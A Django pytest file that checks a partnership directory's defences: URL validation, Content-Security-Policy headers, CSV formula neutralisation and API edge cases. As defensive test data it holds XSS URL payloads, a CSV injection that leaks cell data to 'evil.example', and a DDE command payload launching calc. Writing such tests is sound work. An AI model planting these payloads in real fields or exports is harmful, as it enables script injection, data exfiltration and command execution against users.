"""No editor can attack a reader: web sites are http(s) links only, every page carries a
Content-Security-Policy with nothing inline, CSV cells never start a formula; and the API's
corner cases answer 4xx, never 500 (empty slugs, writes on the export, OPTIONS on the docs)."""

import csv
import importlib
import io
import re
from pathlib import Path

import pytest
from django.apps import apps as django_apps
from django.conf import settings
from django.contrib import admin
from django.contrib.auth.models import Group, User
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from partnerships.exports import FORMULA_STARTS, csv_cell
from partnerships.models import Collectivity, Contact, Partnership
from partnerships.staff.forms import CollectivityForm, ContactForm
from partnerships.validators import validate_web_url

from .factories import (
    CollectivityFactory,
    ContactFactory,
    PartnershipFactory,
    PartnershipMemberFactory,
)

pytestmark = pytest.mark.django_db

API = "/api/v1/"

# What an editor, or an old row, could hold in a web site field.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "javascript://%0Aalert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'http://x.fr/"><script>alert(1)</script>',
    "ftp://ftp.ville.fr",
    "www.ville.fr",
]


@pytest.fixture
def superuser():
    return User.objects.create_superuser("admin-secu", "admin@example.org", "x")


@pytest.fixture
def staff_api(superuser):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=superuser).key}")
    return api


# Web sites -----------------------------------------------------------------------------------


def test_every_seeded_web_site_is_an_http_link():
    sites = [
        *Collectivity.objects.exclude(website="").values_list("website", flat=True),
        *Contact.objects.exclude(website="").values_list("website", flat=True),
    ]
    # 259 collectivities and 397 contacts: the répertoire prints a site for about a hundred.
    assert len(sites) > 90
    for site in sites:
        validate_web_url(site)
        assert site.startswith(("http://", "https://")), site


@pytest.mark.parametrize("value", HOSTILE_URLS)
def test_the_model_refuses_anything_but_a_full_http_address(value):
    collectivity = Collectivity.objects.get(slug="angers")
    collectivity.website = value
    with pytest.raises(ValidationError) as refused:
        collectivity.full_clean()
    assert "website" in refused.value.message_dict
    collectivity.website = "https://www.angers.fr/jumelages?x=1#mali"
    collectivity.full_clean()


def test_staff_forms_the_admin_and_the_api_refuse_a_javascript_site(staff_api, superuser):
    bad = "javascript://%0Aalert(1)"
    collectivity = Collectivity.objects.get(slug="angers")
    data = {
        "name": collectivity.name,
        "kind": collectivity.kind,
        "website": bad,
        "version": collectivity.version,
    }
    form = CollectivityForm(data, instance=collectivity)
    assert not form.is_valid() and "website" in form.errors
    assert "http://" in form.errors["website"][0]
    contact = ContactForm({"side": "FR", "role": "executive", "website": bad})
    assert not contact.is_valid() and "website" in contact.errors

    request = RequestFactory().get("/admin/")
    request.user = superuser
    model_admin = admin.site._registry[Collectivity]
    admin_form = model_admin.get_form(request, collectivity)(data, instance=collectivity)
    assert not admin_form.is_valid() and "website" in admin_form.errors

    response = staff_api.post(
        f"{API}collectivities/",
        {"slug": "ville-x", "name": "Ville X", "kind": "commune", "country": "FR", "website": bad},
        format="json",
    )
    assert response.status_code == 400 and "website" in response.json()
    response = staff_api.post(
        f"{API}collectivities/",
        {
            "slug": "ville-x",
            "name": "Ville X",
            "kind": "commune",
            "country": "FR",
            "website": "https://ville-x.fr",
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    assert Collectivity.objects.get(slug="ville-x").website == "https://ville-x.fr"
    assert not Collectivity.objects.filter(website=bad).exists()


def test_the_migration_cleans_existing_rows_and_their_history():
    migration = importlib.import_module("partnerships.migrations.0010_http_urls")
    collectivities = CollectivityFactory.create_batch(4)
    values = {
        collectivities[0].pk: ("www.ville-a.fr", "http://www.ville-a.fr"),
        collectivities[1].pk: ("javascript://%0Aalert(1)", ""),
        collectivities[2].pk: ("https://ville-c.fr/", "https://ville-c.fr/"),
        collectivities[3].pk: ("(voir le site : http://ville-d.fr).", "http://ville-d.fr"),
    }
    for pk, (old, _new) in values.items():
        # .update(): no validation, as an old row may hold anything.
        Collectivity.objects.filter(pk=pk).update(website=old)
    contact = ContactFactory(website="")
    Contact.objects.filter(pk=contact.pk).update(website="data:text/html,<b>x</b>")
    collectivities[1].history.update(website="JaVaScRiPt:alert(1)")
    migration.clean_websites(django_apps, None)
    for pk, (_old, new) in values.items():
        assert Collectivity.objects.get(pk=pk).website == new
    assert Contact.objects.get(pk=contact.pk).website == ""
    assert set(collectivities[1].history.values_list("website", flat=True)) == {""}
    # The seeded rows were clean already: the migration leaves them as they are.
    assert Collectivity.objects.get(slug="angers").website == "http://www.angers.fr"


def test_pages_link_web_sites_only_to_http_addresses(client):
    partnership = Partnership.objects.get(slug="angers-bamako")
    Collectivity.objects.filter(slug="angers").update(website="javascript://%0Aalert(1)")
    contact = ContactFactory(partnership=partnership, position=99, website="")
    Contact.objects.filter(pk=contact.pk).update(website="www.contact-test.fr")
    page = client.get(reverse("collectivity_detail", args=["angers"])).content.decode()
    # The old value is shown as text, never as a link.
    assert "javascript://%0Aalert(1)" in page
    assert not re.search(r"href=\"\s*javascript", page, re.IGNORECASE)
    fiche = client.get(reverse("partnership_detail", args=["angers-bamako"])).content.decode()
    assert 'href="http://www.contact-test.fr"' in fiche
    Collectivity.objects.filter(slug="angers").update(website="http://www.angers.fr")
    page = client.get(reverse("collectivity_detail", args=["angers"])).content.decode()
    assert 'href="http://www.angers.fr"' in page


# Content-Security-Policy -------------------------------------------------------------------

PAGES = [
    reverse("home"),
    reverse("partnership_list"),
    reverse("partnership_list") + "?search=segou",
    reverse("partnership_detail", args=["angers-bamako"]),
    reverse("collectivity_list"),
    reverse("collectivity_detail", args=["koutiala"]),
    reverse("region_list"),
    reverse("region_detail", args=["kayes"]),
    reverse("domain_list"),
    reverse("domain_detail", args=["sante"]),
    reverse("map"),
    reverse("figures"),
    reverse("workshop_list"),
    "/compte/login/",
    "/compte/password_reset/",
    "/api/v1/docs/",
    "/api/v1/regions/",
    reverse("partnership_detail", args=["nulle-part"]),
]

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", re.I)
INLINE_STYLE = re.compile(r"<style\b|\sstyle\s*=", re.I)


@pytest.mark.parametrize("url", PAGES)
def test_every_page_has_a_policy_without_inline_code(client, url):
    response = client.get(url)
    assert response.status_code in (200, 404)
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy and "object-src 'none'" in policy
    if response["Content-Type"].startswith("text/html"):
        html = response.content.decode()
        assert INLINE_SCRIPT.findall(html) == [] and INLINE_STYLE.findall(html) == []


def test_no_template_holds_inline_code():
    """Every template: public pages, staff pages, the API docs."""
    root = Path(settings.BASE_DIR) / "templates"
    assert any(root.glob("staff/*.html"))
    found = []
    for path in root.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        found += [(path.name, m) for m in INLINE_SCRIPT.findall(text) + INLINE_STYLE.findall(text)]
    assert found == []


def test_the_api_docs_load_their_script_from_a_file(client):
    page = client.get(f"{API}docs/").content.decode()
    script = re.search(r'<script src="([^"]*script=[^"]*)"', page).group(1).replace("&amp;", "&")
    response = client.get(script)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/javascript")
    assert "SwaggerUIBundle" in response.content.decode()


# CSV ------------------------------------------------------------------------------------------


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_csv_cell():
    assert [csv_cell(v) for v in ("=1+1", "+33 1", "-12", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+33 1",
        "'-12",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in ("Ségou", "a=b", "", None, -12, 3.5)] == [
        "Ségou",
        "a=b",
        "",
        "",
        "-12",
        "3.5",
    ]
    assert csv_cell(["-a", "b"]) == "'-a ; b"


def test_no_csv_of_the_real_data_starts_a_formula(client, tmp_path):
    out = tmp_path / "all.csv"
    call_command("export_partnerships", "--format", "csv", "-o", str(out), stderr=io.StringIO())
    written = cells(out.read_text(encoding="utf-8"))
    # The répertoire starts 34 texts with "-" (lists): each one neutralised, none lost.
    assert sum(cell.startswith("'-") for cell in written) == 34
    assert not any(cell.startswith(FORMULA_STARTS) for cell in written)
    page = cells(client.get(reverse("partnership_export_csv")).getvalue().decode("utf-8"))
    api = cells(client.get(f"{API}partnerships/export/", {"format": "csv"}).getvalue().decode())
    for found in (page, api):
        assert sum(cell.startswith("'-") for cell in found) == 34
        assert not any(cell.startswith(FORMULA_STARTS) for cell in found)


def test_a_formula_typed_by_an_editor_is_never_a_formula_in_a_csv(client, tmp_path):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    partnership = PartnershipFactory(title="@SUM(1+1)*cmd|' /C calc'!A0", presentation=payload)
    partner = PartnershipMemberFactory(partnership=partnership).collectivity.slug
    for url in (
        reverse("partnership_export_csv") + f"?collectivity={partner}",
        f"{API}partnerships/{partnership.slug}/?format=csv",
        f"{API}partnerships/?format=csv&collectivity={partner}",
    ):
        found = cells(client.get(url).getvalue().decode("utf-8"))
        assert f"'{payload}" in found and "'@SUM(1+1)*cmd|' /C calc'!A0" in found, url
        assert not any(cell.startswith(FORMULA_STARTS) for cell in found), url
    out = tmp_path / "all.csv"
    call_command("export_partnerships", "--format", "csv", "-o", str(out), stderr=io.StringIO())
    assert f"'{payload}" in cells(out.read_text(encoding="utf-8"))


# Slugs and API corner cases ----------------------------------------------------------------


def test_a_title_with_no_latin_letter_never_gives_an_empty_slug(staff_api, client, superuser):
    first = staff_api.post(
        f"{API}partnerships/", {"title": "日本", "status": "other"}, format="json"
    )
    assert first.status_code == 201, first.content
    assert first.json()["slug"] == "partenariat"
    # The same fallback again is a 400 naming the slug (as for any title already taken), and
    # the caller may then choose one.
    second = {"title": "مالي", "status": "other"}
    response = staff_api.post(f"{API}partnerships/", second, format="json")
    assert response.status_code == 400 and "slug" in response.json()
    response = staff_api.post(f"{API}partnerships/", {**second, "slug": "mali"}, format="json")
    assert response.status_code == 201
    assert not Partnership.objects.filter(slug="").exists()
    # The pages that broke on an empty slug.
    assert client.get(reverse("partnership_list") + "?status=other").status_code == 200
    client.force_login(superuser)
    assert client.get(reverse("staff_unverified")).status_code == 200
    # A collectivity's slug is given by the caller, and never empty.
    response = staff_api.post(
        f"{API}collectivities/",
        {"slug": "", "name": "日本", "kind": "commune", "country": "ML"},
        format="json",
    )
    assert response.status_code == 400 and "slug" in response.json()


def test_the_staff_pages_give_a_fallback_slug_too(client):
    migration = importlib.import_module("partnerships.migrations.0006_editor_groups")
    migration.create_groups(django_apps, None)
    editor = User.objects.create_user("editeur-secu", password="x")
    editor.groups.add(Group.objects.get(name="Éditeurs"))
    client.force_login(editor)
    url = reverse("staff_partnership_create")
    page = client.get(url)
    data = {}
    for formset in page.context["formsets"].values():
        management = formset.management_form
        for name in management.fields:
            data[management.add_prefix(name)] = management[name].value()
    data.update(
        {
            "title": "日本 / マリ",
            "status": "documented",
            "ml-0-new_name": "マリ",
            "ml-0-new_kind": "commune",
        }
    )
    response = client.post(url, data)
    assert response.status_code == 302, response.context and response.context["form"].errors
    created = Partnership.objects.get(title="日本 / マリ")
    assert created.slug == "partenariat"
    assert [c.slug for c in created.malian_partners] == ["collectivite"]


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_writes_on_the_whole_export_are_405(staff_api, method):
    response = getattr(staff_api, method)(f"{API}export/", {}, format="json")
    assert response.status_code == 405
    assert APIClient().get(f"{API}export/").status_code == 200


def test_options_on_the_docs_names_the_methods():
    response = APIClient().options(f"{API}docs/")
    assert response.status_code == 200
    assert "GET" in response["Allow"] and "POST" not in response["Allow"]
